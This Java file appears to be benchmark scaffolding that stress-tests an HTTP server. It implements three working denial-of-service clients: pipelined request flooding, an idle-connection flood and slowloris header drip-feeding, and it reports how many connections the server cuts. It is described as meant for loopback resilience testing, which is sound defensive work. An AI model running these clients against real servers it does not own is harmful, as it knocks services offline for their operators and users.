import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The hostile clients of bench/http-attack.sh, on plain sockets. Run as a single source file:
 *
 * <pre>
 * java bench/HttpAttack.java pipeline HOST PORT CONNECTIONS BATCHES HOLD_MS
 *     each connection sends BATCHES pipelined GET /ids?count=100000, never reads, closes after HOLD_MS
 * java bench/HttpAttack.java flood HOST PORT CONNECTIONS SECONDS
 *     opens CONNECTIONS idle connections and holds them SECONDS; prints how many the server closed
 * java bench/HttpAttack.java slowloris HOST PORT CONNECTIONS INTERVAL_MS SECONDS
 *     each connection sends a request line, then one header line every INTERVAL_MS, never the end
 *     of the headers; prints how many connections the server closed and after how long
 * </pre>
 *
 * Benchmark scaffolding only: it attacks the address it is given, meant for loopback.
 */
public final class HttpAttack {
  private HttpAttack() {}

  public static void main(String[] args) throws Exception {
    String host = args[1];
    int port = Integer.parseInt(args[2]);
    int connections = Integer.parseInt(args[3]);
    switch (args[0]) {
      case "pipeline" -> pipeline(host, port, connections, Integer.parseInt(args[4]),
          Long.parseLong(args[5]));
      case "flood" -> flood(host, port, connections, Long.parseLong(args[4]));
      case "slowloris" -> slowloris(host, port, connections, Long.parseLong(args[4]),
          Long.parseLong(args[5]));
      default -> throw new IllegalArgumentException("pipeline, flood or slowloris: " + args[0]);
    }
  }

  private static Socket connect(String host, int port) throws IOException {
    Socket s = new Socket();
    s.connect(new InetSocketAddress(host, port), 30_000);
    return s;
  }

  private static void pipeline(String host, int port, int connections, int batches, long holdMs)
      throws Exception {
    byte[] requests = "GET /ids?count=100000 HTTP/1.1\r\nHost: x\r\n\r\n".repeat(batches)
        .getBytes(StandardCharsets.US_ASCII);
    List<Socket> sockets = new ArrayList<>();
    for (int i = 0; i < connections; i++) {
      Socket s = connect(host, port);
      s.getOutputStream().write(requests);
      s.getOutputStream().flush();
      sockets.add(s);
    }
    Thread.sleep(holdMs);
    for (Socket s : sockets) {
      s.close();
    }
    System.out.println("pipelined " + connections + " x " + batches + " batches, closed");
  }

  private static void flood(String host, int port, int connections, long seconds)
      throws Exception {
    List<Socket> sockets = new ArrayList<>();
    int failed = 0;
    for (int i = 0; i < connections; i++) {
      try {
        sockets.add(connect(host, port));
      } catch (IOException e) {
        failed++;
      }
    }
    System.out.println("flood: " + sockets.size() + " connected, " + failed + " failed");
    Thread.sleep(seconds * 1000);
    int closed = 0;
    for (Socket s : sockets) {
      s.setSoTimeout(1);
      try {
        if (s.getInputStream().read() < 0) {
          closed++;
        }
      } catch (java.net.SocketTimeoutException e) {
        // still open
      } catch (IOException e) {
        closed++;
      }
      s.close();
    }
    System.out.println("flood: " + closed + " of " + sockets.size() + " closed by the server");
  }

  private static void slowloris(
      String host, int port, int connections, long intervalMs, long seconds) throws Exception {
    List<Socket> sockets = new ArrayList<>();
    long start = System.nanoTime();
    for (int i = 0; i < connections; i++) {
      Socket s = connect(host, port);
      s.getOutputStream().write("GET /id HTTP/1.1\r\nHost: x\r\n".getBytes(StandardCharsets.US_ASCII));
      sockets.add(s);
    }
    long[] cutAfterMs = new long[connections];
    int cut = 0;
    long end = start + seconds * 1_000_000_000L;
    for (int line = 0; System.nanoTime() < end; line++) {
      Thread.sleep(intervalMs);
      byte[] header = ("X-Slow-" + line + ": 1\r\n").getBytes(StandardCharsets.US_ASCII);
      for (int i = 0; i < connections; i++) {
        Socket s = sockets.get(i);
        if (cutAfterMs[i] != 0) {
          continue;
        }
        try {
          OutputStream out = s.getOutputStream();
          out.write(header);
          out.flush();
        } catch (IOException e) {
          cutAfterMs[i] = (System.nanoTime() - start) / 1_000_000;
          cut++;
        }
      }
    }
    long firstCut = Long.MAX_VALUE;
    long lastCut = 0;
    for (long ms : cutAfterMs) {
      if (ms != 0) {
        firstCut = Math.min(firstCut, ms);
        lastCut = Math.max(lastCut, ms);
      }
    }
    for (Socket s : sockets) {
      s.close();
    }
    System.out.println(
        "slowloris: "
            + cut
            + " of "
            + connections
            + " closed by the server"
            + (cut > 0 ? " (noticed after " + firstCut + ".." + lastCut + " ms)" : ""));
  }
}
